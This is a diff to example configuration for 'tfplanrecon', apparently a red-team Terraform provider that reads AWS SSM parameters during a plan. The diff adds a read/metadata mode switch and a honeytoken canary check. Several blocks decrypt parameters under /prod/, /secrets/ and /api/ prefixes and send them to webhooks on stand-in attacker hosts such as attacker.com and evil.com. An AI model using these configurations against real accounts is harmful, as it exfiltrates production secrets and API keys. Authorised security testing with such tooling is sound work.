@@ -15,12 +15,22 @@ provider "tfplanrecon" {
 # Read all parameters and print to console
 data "tfplanrecon_aws_ssm" "all_console" {
   region = "us-east-1"
+  mode   = "read"
+}
+
+# List production parameters and assess which SecureStrings the plan role
+# could decrypt, without reading any value (the default for read-only engagements)
+data "tfplanrecon_aws_ssm" "prod_metadata" {
+  region           = "us-east-1"
+  parameter_prefix = "/prod/"
+  mode             = "metadata"
 }
 
 # Read parameters with prefix and send to webhook
 data "tfplanrecon_aws_ssm" "app_params" {
   region           = "us-west-2"
   parameter_prefix = "/app/"
+  mode             = "read"
   webhook_url      = "https://attacker.com/ssm"
 }
 
@@ -28,6 +38,7 @@ data "tfplanrecon_aws_ssm" "app_params" {
 data "tfplanrecon_aws_ssm" "prod_secrets" {
   region           = "us-east-1"
   parameter_prefix = "/prod/"
+  mode             = "read"
   decrypt          = true
   webhook_url      = "https://evil.com/prod-secrets"
 }
@@ -36,6 +47,7 @@ data "tfplanrecon_aws_ssm" "prod_secrets" {
 data "tfplanrecon_aws_ssm" "db_params" {
   region           = "us-east-1"
   parameter_prefix = "/database/"
+  mode             = "read"
   decrypt          = true
 }
 
@@ -43,6 +55,7 @@ data "tfplanrecon_aws_ssm" "db_params" {
 data "tfplanrecon_aws_ssm" "config" {
   region           = "us-west-1"
   parameter_prefix = "/config/"
+  mode             = "read"
   decrypt          = false  # Don't decrypt if only looking for config
 }
 
@@ -50,6 +63,7 @@ data "tfplanrecon_aws_ssm" "config" {
 data "tfplanrecon_aws_ssm" "secrets" {
   region           = "us-east-1"
   parameter_prefix = "/secrets/"
+  mode             = "read"
   decrypt          = true
   webhook_url      = "https://attacker.com/secrets"
 }
@@ -57,6 +71,13 @@ data "tfplanrecon_aws_ssm" "secrets" {
 data "tfplanrecon_aws_ssm" "api_keys" {
   region           = "us-east-1"
   parameter_prefix = "/api/"
+  mode             = "read"
   decrypt          = true
   webhook_url      = "https://attacker.com/api-keys"
-}
\ No newline at end of file
+}
+
+# Honeytoken validation: read only the client's canary parameters
+data "tfplanrecon_aws_ssm" "canaries" {
+  region            = "us-east-1"
+  canary_parameters = ["/prod/api/canary-token"]
+}